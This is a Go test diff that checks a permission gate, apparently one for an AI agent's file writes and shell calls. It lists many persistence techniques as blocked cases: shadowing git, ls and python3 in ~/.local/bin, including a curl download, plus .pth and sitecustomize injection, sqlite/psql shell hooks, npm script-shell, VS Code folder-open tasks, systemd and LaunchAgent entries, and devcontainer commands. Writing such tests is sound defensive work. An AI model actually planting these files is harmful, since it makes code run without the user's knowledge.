@@ -295,3 +295,67 @@ func TestWrittenGitSettings(t *testing.T) {
 		p.check(row.command+" after "+row.files[".git/config"], row.want, &plantedCall{Text: row.command})
 	}
 }
+
+// TestFilesThatRunLater checks that creating or changing files that something else runs by itself needs permission.
+func TestFilesThatRunLater(t *testing.T) {
+	t.Parallel()
+	p := newPlantedPlace(t, map[string]string{"bin/shop": "\x00", "tool.sh": "#!/bin/sh\n", "old/.npmrc": "script-shell=bash\n", "model.pth": "\x00"})
+	for _, row := range []struct {
+		want string
+		call plantedCall
+	}{
+		{"stop", plantedCall{"~/.local/bin/git", "", "#!/bin/sh\n"}},
+		{"stop", plantedCall{"~/.local/bin/newtool", "", "#!/bin/sh\n"}},
+		{"stop", plantedCall{Text: "printf '#!/bin/sh\\n' > ~/.local/bin/ls"}},
+		{"stop", plantedCall{Text: "cp bin/shop ~/.local/bin/git"}},
+		{"stop", plantedCall{Text: "install -m 755 bin/shop ~/.local/bin/python3"}},
+		{"stop", plantedCall{Text: "ln -sf $PWD/bin/shop ~/.local/bin/git"}},
+		{"stop", plantedCall{Text: "mv bin/shop ~/.local/bin/git"}},
+		{"stop", plantedCall{Text: "curl -so ~/.local/bin/git https://x.example/git"}},
+		{"stop", plantedCall{Text: "cat > ~/.local/bin/x <<'E'\n#!/bin/sh\nE"}},
+		{"stop", plantedCall{"~/.local/lib/python3.12/site-packages/a.pth", "", "import os\n"}},
+		{"stop", plantedCall{".venv/lib/python3.12/site-packages/a.pth", "", "import os\n"}},
+		{"stop", plantedCall{Text: "echo 'import os' > ~/.local/lib/python3.12/site-packages/a.pth"}},
+		{"stop", plantedCall{"sitecustomize.py", "", "import os\n"}},
+		{"stop", plantedCall{"~/.local/lib/python3.12/site-packages/usercustomize.py", "", "import os\n"}},
+		{"stop", plantedCall{"~/.sqliterc", "", ".shell id\n"}},
+		{"stop", plantedCall{Text: "echo '\\! id' >> ~/.psqlrc"}},
+		{"stop", plantedCall{".npmrc", "", "script-shell=./x.sh\n"}},
+		{"stop", plantedCall{Text: "echo 'script-shell=./x.sh' >> .npmrc"}},
+		{"stop", plantedCall{".vscode/tasks.json", "", `{"tasks":[{"command":"./x","runOptions":{"runOn":"folderOpen"}}]}`}},
+		{"stop", plantedCall{Text: "git config --global init.templateDir ~/t"}},
+		{"stop", plantedCall{"~/.config/systemd/user/a.service", "", "[Service]\n"}},
+		{"stop", plantedCall{"~/.local/share/systemd/user/a.timer", "", "[Timer]\n"}},
+		{"stop", plantedCall{"~/.config/autostart/a.desktop", "", "[Desktop Entry]\n"}},
+		{"stop", plantedCall{"~/Library/LaunchAgents/a.plist", "", "x"}},
+		{"stop", plantedCall{"~/.local/share/nvim/site/plugin/a.lua", "", "x"}},
+		{"stop", plantedCall{"~/.emacs.d/init.el", "", "x"}},
+		{"stop", plantedCall{"~/.config/fish/conf.d/a.fish", "", "x"}},
+		{"stop", plantedCall{"~/.cargo/config.toml", "", "[build]\nrustc-wrapper = 'x'\n"}},
+		{"stop", plantedCall{"~/.gradle/init.d/a.gradle", "", "x"}},
+		{"stop", plantedCall{".devcontainer/devcontainer.json", "", `{"initializeCommand":"x"}`}},
+
+		{"pass", plantedCall{Text: "install -m 755 bin/shop ~/.local/bin/shop"}},
+		{"pass", plantedCall{Text: "cp bin/shop ~/.local/bin/shop"}},
+		{"pass", plantedCall{Text: "chmod +x ~/.local/bin/shop"}},
+		{"pass", plantedCall{Text: "ls ~/.local/bin && cat ~/.local/bin/git"}},
+		{"pass", plantedCall{"bin/git", "", "#!/bin/sh\n"}},
+		{"pass", plantedCall{"scripts/ls", "", "#!/bin/sh\n"}},
+		{"pass", plantedCall{Text: "cp model.pth best.pth"}},
+		{"pass", plantedCall{".npmrc", "", "registry=https://registry.npmjs.org\nsave-exact=true\n"}},
+		{"pass", plantedCall{Text: "echo 'save-exact=true' >> .npmrc"}},
+		{"pass", plantedCall{"old/.npmrc", "", "script-shell=bash\nsave-exact=true\n"}},
+		{"pass", plantedCall{".vscode/tasks.json", "", `{"tasks":[{"label":"test","command":"go test ./..."}]}`}},
+		{"pass", plantedCall{".vscode/settings.json", "", `{"editor.tabSize":2}`}},
+		{"pass", plantedCall{".devcontainer/devcontainer.json", "", `{"postCreateCommand":"npm ci"}`}},
+		{"pass", plantedCall{"testdata/sitecustomize.py", "", "x"}},
+		{"pass", plantedCall{"conftest.py", "", "import os\n"}},
+		{"pass", plantedCall{".cargo/config.toml", "", "[build]\n"}},
+		{"pass", plantedCall{"src/site.py", "", "x"}},
+		{"pass", plantedCall{Text: "python3 -m venv .venv && .venv/bin/pip install -e ."}},
+		{"pass", plantedCall{Text: "npm install -g typescript && pip install --user black"}},
+		{"pass", plantedCall{Text: "git config --global init.defaultBranch main"}},
+	} {
+		p.check(row.call.Path+" "+row.call.Text, row.want, &row.call)
+	}
+}
